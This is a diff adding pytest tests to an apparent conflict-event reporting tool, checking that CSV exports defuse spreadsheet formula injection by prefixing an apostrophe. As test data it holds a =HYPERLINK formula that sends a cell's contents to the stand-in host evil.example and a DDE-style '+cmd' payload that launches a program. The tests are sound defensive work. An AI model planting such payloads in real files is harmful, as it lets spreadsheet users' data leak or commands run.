@@ -117,3 +117,34 @@ def test_acled_codes() -> None:
     assert interaction(1, None) == 10
     assert interaction(7, 1) == 17
     assert interaction(2, 2) == 22
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Kharkiv") strike on Kharkiv killed 12 people.'
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("-36.2", "-36.2"), ("+7", "+7"),
+    ("Kharkiv", "Kharkiv"), ("", ""), (-36.2, -36.2), (None, None),
+])
+def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: object, safe: object) -> None:
+    from sitrep.store.render import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == safe
+
+
+def test_every_csv_export_neutralises_formulas(store: Store, tmp_path: Path) -> None:
+    from sitrep.store.queries import EventFilter, find_events
+    from sitrep.store.render import EVENT_COLUMNS, render
+
+    store.add(strike_report(FORMULA, actor1=EventActor("@SUM(1+1)", "RUS", "MIL")))
+    out = tmp_path / "events.csv"
+    export(store, "acled", out)
+    with out.open(encoding="utf-8") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["notes"] == "'" + FORMULA
+    assert row["actor1"] == "'@SUM(1+1)"
+    assert float(row["latitude"]) == pytest.approx(KHARKIV.lat)  # numbers stay numbers
+    printed = render(find_events(store, EventFilter()), "csv", EVENT_COLUMNS)
+    (cli_row,) = list(csv.DictReader(printed.splitlines()))
+    assert cli_row["actor1"] == "'@SUM(1+1)"
